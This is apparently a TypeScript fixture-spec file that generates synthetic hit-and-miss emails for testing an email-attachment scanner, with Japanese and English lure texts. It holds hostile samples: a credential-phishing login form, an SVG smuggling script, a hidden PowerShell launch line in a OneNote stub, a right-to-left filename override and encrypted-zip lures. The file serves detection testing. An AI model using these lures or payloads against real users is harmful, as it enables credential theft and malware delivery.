/**
 * The synthetic attachment fixtures, as code: `fixtures/eml/attachment/<check-name>/{hit,miss}--*.eml`
 * are generated from these specs (`AYASHII_WRITE_FIXTURES=1 npx vitest run
 * packages/core/test/attachment/fixtures-generated.test.ts`), and that test fails when a file
 * and its spec drift apart. Every hit has a legitimate miss twin. RFC 2606 names only.
 */
import {
  bytes, cfb, iso, jpeg, latin1, lnk, onenote, ooxml, pdf, pe, png, rar4, rar5, rtf, zip, type MailSpec,
} from './builders.js';

export interface FixtureSpec {
  /** `<check-name>/<hit|miss>--<scenario>.eml` below `fixtures/eml/attachment/`. */
  readonly file: string;
  readonly spec: MailSpec;
}

const VENDOR = 'Example Trading <billing@example.com>';
const TO = 'Taro Yamada <taro.yamada@kousya.example>';

const LOGIN_PAGE =
  '<!DOCTYPE html><html><head><title>Sign in</title></head><body><h1>Mail account</h1>' +
  '<form method="post" action="https://collect.example.net/p.php"><input type="email" name="u" value="taro.yamada@kousya.example">' +
  '<input type="password" name="p"><button>Sign in</button></form></body></html>';

const RECEIPT_PAGE =
  '<!DOCTYPE html><html><head><meta charset="utf-8"><title>領収書</title></head><body><h1>領収書</h1>' +
  '<p>ご購入ありがとうございました。合計 3,300 円</p><p><a href="https://shop.example.com/orders">注文履歴</a></p></body></html>';

const SVG_SMUGGLING =
  '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
  '<script><![CDATA[var d=atob("UEsDBA==");var b=new Blob([d]);location.href=URL.createObjectURL(b);]]></script></svg>';

const ICS =
  'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Calendar//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n' +
  'UID:20261123T100000-1@example.com\r\nDTSTART:20261201T010000Z\r\nDTEND:20261201T020000Z\r\nSUMMARY:定例会議\r\n' +
  'ORGANIZER:mailto:sato@example.com\r\nATTENDEE:mailto:taro.yamada@kousya.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n';

const mail = (subject: string, text: string, attachments: MailSpec['attachments'], extra: Partial<MailSpec> = {}): MailSpec => ({
  from: VENDOR,
  to: TO,
  subject,
  text,
  attachments,
  ...extra,
});

export const FIXTURE_SPECS: readonly FixtureSpec[] = [
  // executable-file
  {
    file: 'executable-file/hit--exe-attachment.eml',
    spec: mail('Update', 'Please run the attached update today.', [{ filename: 'update.exe', contentType: 'application/octet-stream', data: pe() }]),
  },
  {
    file: 'executable-file/hit--script-in-japanese-name.eml',
    spec: mail('請求書の送付', '請求書を送付します。ご確認ください。', [
      { filename: '請求書_2026年11月.js', contentType: 'application/octet-stream', data: 'var s = WScript.CreateObject("WScript.Shell");' },
    ]),
  },
  {
    file: 'executable-file/miss--pdf-invoice.eml',
    spec: mail('請求書の送付', '11月分の請求書を送付いたします。', [{ filename: '請求書_2026年11月.pdf', contentType: 'application/pdf', data: pdf() }]),
  },
  {
    file: 'executable-file/miss--patch-for-review.eml',
    spec: mail('[PATCH] fix typo', 'Patch attached for review.', [
      { filename: '0001-fix-typo.patch', contentType: 'text/x-diff', data: '--- a/README\n+++ b/README\n@@ -1 +1 @@\n-teh\n+the\n' },
    ]),
  },
  // double-extension
  {
    file: 'double-extension/hit--pdf-exe.eml',
    spec: mail('請求書', '請求書をご確認ください。', [{ filename: '請求書.pdf.exe', contentType: 'application/pdf', data: pe() }]),
  },
  {
    file: 'double-extension/hit--padded-html.eml',
    spec: mail('Scanned document', 'Your scan is attached.', [{ filename: 'scan_0042.pdf                    .html', contentType: 'text/html', data: LOGIN_PAGE }]),
  },
  {
    file: 'double-extension/miss--dotted-names.eml',
    spec: mail('Release files', 'Report and source archive attached.', [
      { filename: 'report.v2.final.pdf', contentType: 'application/pdf', data: pdf() },
      { filename: 'source-1.2.tar.gz', contentType: 'application/gzip', data: bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0]) },
    ]),
  },
  // bidi-filename
  {
    file: 'bidi-filename/hit--rlo-override.eml',
    spec: mail('Invoice', 'Invoice attached.', [{ filename: 'invoice_\u202Efdp.exe', contentType: 'application/octet-stream', data: pe() }]),
  },
  {
    file: 'bidi-filename/miss--hebrew-and-japanese-names.eml',
    spec: mail('Translations', 'Attached are the translated documents.', [
      { filename: '\u05D3\u05D5\u05D7 \u05E9\u05E0\u05EA\u05D9.pdf', contentType: 'application/pdf', data: pdf() },
      { filename: '議事録（第3回）.pdf', contentType: 'application/pdf', data: pdf() },
    ]),
  },
  // encrypted-archive
  {
    file: 'encrypted-archive/hit--password-zip.eml',
    spec: mail('【重要】お支払いについて', '添付ファイルをご確認ください。パスワード：8421', [
      { filename: '請求書_1123.zip', contentType: 'application/zip', data: zip([{ name: '請求書_1123.doc', data: 'x'.repeat(200), encrypted: true, utf8Flag: true }]) },
    ]),
  },
  {
    file: 'encrypted-archive/hit--rar5-names-encrypted.eml',
    spec: mail('Documents', 'Password: 1234', [{ filename: 'documents.rar', contentType: 'application/octet-stream', data: rar5([], { headersEncrypted: true }) }]),
  },
  {
    file: 'encrypted-archive/miss--zip-of-pdfs.eml',
    spec: mail('資料送付', '資料をまとめて送付します。', [
      {
        filename: '資料一式.zip',
        contentType: 'application/zip',
        data: zip([
          { name: '見積書.pdf', data: pdf(), utf8Flag: true },
          { name: '仕様書.pdf', data: pdf(), utf8Flag: true },
        ]),
      },
    ]),
  },
  // risky-file-in-archive
  {
    file: 'risky-file-in-archive/hit--zip-with-js.eml',
    spec: mail('Invoice 1123', 'See the attached invoice.', [
      { filename: 'Invoice_1123.zip', contentType: 'application/zip', data: zip([{ name: 'Invoice_1123.js', data: 'WScript.Echo(1)' }]) },
    ]),
  },
  {
    file: 'risky-file-in-archive/hit--rar-with-lnk.eml',
    spec: mail('Order', 'Order details attached.', [
      { filename: 'order.rar', contentType: 'application/x-rar-compressed', data: rar4([{ name: 'order.pdf.lnk' }, { name: 'readme.txt' }]) },
    ]),
  },
  {
    file: 'risky-file-in-archive/miss--zip-of-pdfs.eml',
    spec: mail('Reports', 'Quarterly reports attached.', [
      { filename: 'reports.zip', contentType: 'application/zip', data: zip([{ name: 'q1.pdf', data: pdf() }, { name: 'q2.pdf', data: pdf() }]) },
    ]),
  },
  // archive-in-archive
  {
    file: 'archive-in-archive/hit--zip-in-zip.eml',
    spec: mail('Documents', 'Documents attached.', [
      { filename: 'documents.zip', contentType: 'application/zip', data: zip([{ name: 'documents.rar', data: rar4([{ name: 'a.txt' }]) }]) },
    ]),
  },
  {
    file: 'archive-in-archive/miss--zip-of-office-files.eml',
    spec: mail('Templates', 'Templates attached.', [
      {
        filename: 'templates.zip',
        contentType: 'application/zip',
        data: zip([{ name: 'letter.docx', data: ooxml('word') }, { name: 'budget.xlsx', data: ooxml('xl') }]),
      },
    ]),
  },
  // macro-enabled-office
  {
    file: 'macro-enabled-office/hit--xlsm.eml',
    spec: mail('見積書', '見積書を添付します。マクロを有効にしてご覧ください。', [
      { filename: '見積書.xlsm', contentType: 'application/vnd.ms-excel.sheet.macroEnabled.12', data: ooxml('xl', { vba: true }) },
    ]),
  },
  {
    file: 'macro-enabled-office/miss--xlsx-and-docx.eml',
    spec: mail('見積書', '見積書と送付状を添付します。', [
      { filename: '見積書.xlsx', contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', data: ooxml('xl') },
      { filename: '送付状.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', data: ooxml('word') },
    ]),
  },
  // vba-macro
  {
    file: 'vba-macro/hit--doc-with-vba.eml',
    spec: mail('Contract', 'Please enable editing to view the contract.', [
      { filename: 'contract.doc', contentType: 'application/msword', data: cfb(['WordDocument', '1Table', 'Macros', 'VBA', 'dir', '_VBA_PROJECT', 'ThisDocument']) },
    ]),
  },
  {
    file: 'vba-macro/hit--docm-with-vba-project.eml',
    spec: mail('Form', 'Form attached.', [{ filename: 'form.docm', contentType: 'application/octet-stream', data: ooxml('word', { vba: true }) }]),
  },
  {
    file: 'vba-macro/miss--plain-doc.eml',
    spec: mail('Minutes', 'Minutes attached.', [
      { filename: 'minutes.doc', contentType: 'application/msword', data: cfb(['WordDocument', '1Table', 'SummaryInformation', 'DocumentSummaryInformation']) },
    ]),
  },
  {
    file: 'vba-macro/miss--plain-docx.eml',
    spec: mail('Minutes', 'Minutes attached.', [
      { filename: 'minutes.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', data: ooxml('word') },
    ]),
  },
  // html-attachment
  {
    file: 'html-attachment/hit--html-receipt.eml',
    spec: mail('ご利用明細', 'ご利用明細を添付します。', [{ filename: 'statement_1123.htm', contentType: 'text/html', data: RECEIPT_PAGE }]),
  },
  {
    file: 'html-attachment/miss--html-body-and-ics-invite.eml',
    spec: mail('定例会議のご案内', '定例会議のご案内です。', [{ filename: 'invite.ics', contentType: 'text/calendar', params: 'method=REQUEST; charset=UTF-8', data: ICS }], {
      html: '<html><body><p>定例会議のご案内です。</p></body></html>',
    }),
  },
  // html-form-or-script
  {
    file: 'html-form-or-script/hit--credential-form.eml',
    spec: mail('Mailbox quota', 'Your mailbox is full. Open the attached page to keep your mail.', [
      { filename: 'Quota_Restore.html', contentType: 'text/html', data: LOGIN_PAGE },
    ]),
  },
  {
    file: 'html-form-or-script/hit--svg-smuggling.eml',
    spec: mail('Voice message', 'You have a new voice message.', [{ filename: 'voicemail.svg', contentType: 'image/svg+xml', data: SVG_SMUGGLING }]),
  },
  {
    file: 'html-form-or-script/miss--plain-html-receipt.eml',
    spec: mail('領収書', '領収書を添付します。', [{ filename: 'receipt.html', contentType: 'text/html', data: RECEIPT_PAGE }]),
  },
  // disk-image
  {
    file: 'disk-image/hit--iso.eml',
    spec: mail('Shipping documents', 'Shipping documents attached.', [{ filename: 'shipping_documents.iso', contentType: 'application/octet-stream', data: iso() }]),
  },
  {
    file: 'disk-image/miss--inline-images.eml',
    spec: mail('写真', '写真を送ります。', [
      { filename: 'logo.png', contentType: 'image/png', data: png(), disposition: 'inline', cid: 'logo@example.com' },
      { filename: null, contentType: 'image/jpeg', data: jpeg(), disposition: 'inline', cid: 'photo@example.com' },
      { filename: 'IMG_0042.JPG', contentType: 'image/jpeg', data: jpeg() },
    ]),
  },
  // onenote-file
  {
    file: 'onenote-file/hit--embedded-script.eml',
    spec: mail('Shared notes', 'Double-click to view the document.', [
      { filename: 'Notes_1123.one', contentType: 'application/octet-stream', data: onenote([png(), latin1('@echo off\r\nstart /b powershell -w hidden\r\n')]) },
    ]),
  },
  {
    file: 'onenote-file/miss--signed-pdf.eml',
    spec: mail('Signed contract', 'The signed contract is attached.', [{ filename: 'contract_signed.pdf', contentType: 'application/pdf', data: pdf(true) }], {
      smimeSigned: true,
    }),
  },
  // type-mismatch
  {
    file: 'type-mismatch/hit--pdf-that-is-exe.eml',
    spec: mail('Invoice', 'Invoice attached.', [{ filename: 'invoice_1123.pdf', contentType: 'application/pdf', data: pe() }]),
  },
  {
    file: 'type-mismatch/hit--jpg-that-is-lnk.eml',
    spec: mail('Photos', 'Photos from the event.', [{ filename: 'photo.jpg', contentType: 'image/jpeg', data: lnk() }]),
  },
  {
    file: 'type-mismatch/miss--doc-that-is-rtf-and-jpg-that-is-png.eml',
    spec: mail('Report', 'Report and chart attached.', [
      { filename: 'report.doc', contentType: 'application/msword', data: rtf() },
      { filename: 'chart.jpg', contentType: 'image/jpeg', data: png() },
      { filename: 'export.xls', contentType: 'application/vnd.ms-excel', data: '<html><body><table><tr><td>1</td></tr></table></body></html>' },
    ]),
  },
  // recipient-in-filename
  {
    file: 'recipient-in-filename/hit--address-in-html-name.eml',
    spec: mail('Payment advice', 'Payment advice attached.', [
      { filename: 'Payment_Advice_taro.yamada@kousya.example.html', contentType: 'text/html', data: LOGIN_PAGE },
    ]),
  },
  {
    file: 'recipient-in-filename/miss--vendor-invoice.eml',
    spec: mail('Invoice', 'Invoice attached.', [{ filename: 'INV-2026-1123.pdf', contentType: 'application/pdf', data: pdf() }]),
  },
];

/** Fixtures of legitimate mail that must stay at `caution` or below, with their attachment points. */
export const LEGITIMATE_TWINS: readonly { file: string; maxAttachmentPoints: number }[] = [
  { file: 'onenote-file/miss--signed-pdf.eml', maxAttachmentPoints: 0 },
  { file: 'macro-enabled-office/miss--xlsx-and-docx.eml', maxAttachmentPoints: 0 },
  { file: 'encrypted-archive/miss--zip-of-pdfs.eml', maxAttachmentPoints: 0 },
  { file: 'html-attachment/miss--html-body-and-ics-invite.eml', maxAttachmentPoints: 0 },
  { file: 'disk-image/miss--inline-images.eml', maxAttachmentPoints: 0 },
  { file: 'executable-file/miss--pdf-invoice.eml', maxAttachmentPoints: 0 },
  { file: 'vba-macro/miss--plain-doc.eml', maxAttachmentPoints: 0 },
  { file: 'archive-in-archive/miss--zip-of-office-files.eml', maxAttachmentPoints: 0 },
  { file: 'type-mismatch/miss--doc-that-is-rtf-and-jpg-that-is-png.eml', maxAttachmentPoints: 0 },
  { file: 'html-form-or-script/miss--plain-html-receipt.eml', maxAttachmentPoints: 15 },
];

